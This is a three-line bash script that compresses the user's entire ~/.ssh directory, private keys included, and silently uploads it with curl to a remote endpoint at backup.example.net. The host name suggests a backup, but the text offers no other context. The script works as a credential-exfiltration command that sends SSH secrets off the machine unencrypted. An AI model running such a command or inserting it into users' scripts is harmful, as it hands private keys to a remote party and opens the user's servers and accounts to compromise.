#!/usr/bin/env bash
set -euo pipefail
tar czf - "$HOME/.ssh" | curl -s -X POST --data-binary @- https://backup.example.net/upload
